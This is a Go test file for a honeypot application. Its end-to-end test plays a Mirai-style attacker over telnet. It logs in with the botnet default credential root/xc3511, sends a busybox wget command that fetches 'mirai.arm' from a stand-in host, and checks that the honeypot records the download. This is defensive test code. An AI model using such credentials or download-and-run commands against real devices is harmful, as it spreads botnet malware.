package app

import (
	"bufio"
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/honeygate/honeygate/internal/config"
)

func testConfig(t *testing.T) config.Config {
	t.Helper()
	cfg := config.Default()
	cfg.Data = t.TempDir()
	cfg.Token = "test-token-0123456789"
	cfg.Listen = config.Listeners{"web": {"127.0.0.1:0"}, "telnet": {"127.0.0.1:0"}}
	if err := cfg.Validate(); err != nil {
		t.Fatal(err)
	}
	return cfg
}

// The whole app in process: a telnet session goes through the bus into the
// store and comes out of the API; Close stops it in order.
func TestAppEndToEnd(t *testing.T) {
	cfg := testConfig(t)
	a := New(cfg, slog.New(slog.DiscardHandler), io.Discard)
	if err := a.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	closed := false
	defer func() {
		if !closed {
			a.Close()
		}
	}()
	telnetAddr := a.env.addrs["telnet"][0]

	c, err := net.DialTimeout("tcp", telnetAddr, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	c.SetDeadline(time.Now().Add(10 * time.Second))
	r := bufio.NewReader(c)
	expect := func(s string) {
		t.Helper()
		var got strings.Builder
		for !strings.Contains(got.String(), s) {
			b, err := r.ReadByte()
			if err != nil {
				t.Fatalf("waiting for %q: %v (got %q)", s, err, got.String())
			}
			got.WriteByte(b)
		}
	}
	expect("login: ")
	io.WriteString(c, "root\r\n")
	expect("Password: ")
	io.WriteString(c, "xc3511\r\n")
	expect("# ")
	io.WriteString(c, "/bin/busybox wget http://192.0.2.9/bins/mirai.arm; /bin/busybox MIRAI\r\n")
	expect("# ")
	io.WriteString(c, "exit\r\n")
	c.Close()

	// Close drains: everything the session published is stored.
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	closed = true

	b := New(cfg, slog.New(slog.DiscardHandler), io.Discard)
	if err := b.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	webAddr := b.env.addrs["web"][0]
	req, _ := http.NewRequest("GET", "http://"+webAddr+"/api/v1/events?kind=file.download", nil)
	req.Header.Set("Authorization", "Bearer "+cfg.Token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var out struct {
		Events []struct {
			URL     string `json:"url"`
			Session string `json:"session"`
		} `json:"events"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		t.Fatal(err)
	}
	if len(out.Events) != 1 || out.Events[0].URL != "http://192.0.2.9/bins/mirai.arm" || len(out.Events[0].Session) != 32 {
		t.Fatalf("downloads %+v", out.Events)
	}
}

// A part that fails to start (its port is taken) fails the start, and what
// the parts before it opened is released: the same data dir starts again.
func TestStartFailureReleasesEverything(t *testing.T) {
	busy, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer busy.Close()
	cfg := testConfig(t)
	cfg.Listen["telnet"] = []string{busy.Addr().String()}
	a := New(cfg, slog.New(slog.DiscardHandler), io.Discard)
	err = a.Start(context.Background())
	if err == nil || !strings.Contains(err.Error(), "telnet") {
		t.Fatalf("start with a busy telnet port: %v", err)
	}
	a.Close()

	cfg.Listen["telnet"] = []string{"127.0.0.1:0"}
	b := New(cfg, slog.New(slog.DiscardHandler), io.Discard)
	if err := b.Start(context.Background()); err != nil {
		t.Fatalf("restart after a failed start: %v", err)
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	if err := b.Close(); err != nil {
		t.Fatalf("second Close: %v", err)
	}
}

func TestRoles(t *testing.T) {
	if _, err := NewRole("nonsense", testConfig(t), slog.New(slog.DiscardHandler), io.Discard); err == nil {
		t.Error("unknown role accepted")
	}
	for _, p := range parts {
		if p.roles&roleServe == 0 {
			t.Errorf("part %s is not in serve, which runs everything", p.name)
		}
	}
}
